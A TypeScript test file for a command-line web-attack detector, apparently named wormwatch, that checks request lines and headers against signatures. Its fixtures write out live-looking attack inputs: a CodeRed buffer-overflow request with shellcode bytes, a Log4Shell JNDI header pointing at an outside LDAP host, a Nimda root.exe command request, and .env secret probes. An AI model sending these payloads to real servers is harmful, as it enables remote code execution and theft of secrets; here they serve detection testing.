import assert from 'node:assert/strict';
import { checkRequest } from '../../src/cli/check.js';
import { defaultEngine } from '../../src/rules/index.js';
import { runCli } from './run-cli.js';

describe('wormwatch check', () => {
  const engine = defaultEngine();

  it('names CodeRed for its request line, with exit status 1', () => {
    const r = checkRequest(engine, `GET /default.ida?${'N'.repeat(224)}%u9090%u6858%ucbd3%u7801 HTTP/1.0`);
    assert.equal(r.exitCode, 1);
    assert.match(r.output, /^detected: codered-i \(family codered, request stage\)\n  CodeRed worm/);
  });

  it('inspects the headers given, and prints JSON on request', () => {
    const r = checkRequest(engine, 'GET / HTTP/1.1', { headers: { 'user-agent': 'Mozilla/5.0', 'x-api-version': '${jndi:ldap://198.51.100.7/a}' }, json: true });
    const v = JSON.parse(r.output) as Record<string, unknown>;
    assert.equal(v.signature, 'log4shell-jndi');
    assert.equal(v.detail, 'x-api-version: ${jndi:ldap://198.51.100.7/a}');
  });

  it('is clean (exit 0) for an ordinary request, and for a hunt of the site\'s own page the origin answered 200', () => {
    assert.deepEqual({ ...checkRequest(engine, 'GET /index.html HTTP/1.1'), verdict: null }, { verdict: null, exitCode: 0, output: 'clean: no signature matches\n' });
    assert.equal(checkRequest(engine, 'GET /wp-login.php HTTP/1.1', { status: 200 }).exitCode, 0);
    const missing = checkRequest(engine, 'GET /.env HTTP/1.1', { status: 404 });
    assert.equal(missing.exitCode, 1);
    assert.match(missing.output, /^detected: probe-dotenv \(family hunt, 404 stage\)\n/);
    assert.match(checkRequest(engine, 'GET /.env HTTP/1.1', { status: 403 }).output, /^detected: probe-dotenv/, 'refused is a probe too');
    assert.match(checkRequest(engine, 'GET /.env HTTP/1.1').output, /counts when the origin answers anything but 2xx; a 2xx serving it is an exposure/);
  });

  it('calls a secret served with 2xx an exposure', () => {
    const served = checkRequest(engine, 'GET /.env HTTP/1.1', { status: 200 });
    assert.equal(served.exitCode, 1);
    assert.match(served.output, /^exposure: probe-dotenv .*\n.*\n  the origin served what this hunts for \(200\)/);
    assert.equal((JSON.parse(checkRequest(engine, 'GET /.env HTTP/1.1', { status: 200, json: true }).output) as { exposure?: boolean }).exposure, true);
  });

  it('runs as a command: exit 1 on a detection, 2 on a usage error', async () => {
    const [hit, usage] = await Promise.all([
      runCli(['check', 'GET /scripts/root.exe?/c+dir HTTP/1.0', '-H', 'User-Agent: x']),
      runCli(['check', 'GET / HTTP/1.1', '-H', 'no-colon']),
    ]);
    assert.equal(hit.code, 1, hit.stderr);
    assert.match(hit.stdout, /^detected: nimda-root-exe/);
    assert.equal(usage.code, 2);
    assert.match(usage.stderr, /expected "Name: value"/);
  });
});
